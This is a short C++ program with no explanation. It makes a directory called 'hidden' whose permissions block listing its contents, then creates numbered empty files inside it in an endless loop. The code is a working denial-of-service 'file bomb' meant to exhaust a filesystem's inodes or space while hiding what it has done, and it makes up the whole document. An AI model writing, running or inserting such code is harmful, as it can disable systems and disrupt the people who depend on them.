#include <fcntl.h>
#include <string>
#include <sys/stat.h>
#include <unistd.h>
int main() {
    mkdir("hidden", 0300);
    if (chdir("hidden") != 0) return 0;
    for (long n = 0;; n++) close(open(std::to_string(n).c_str(), O_WRONLY | O_CREAT, 0600));
}
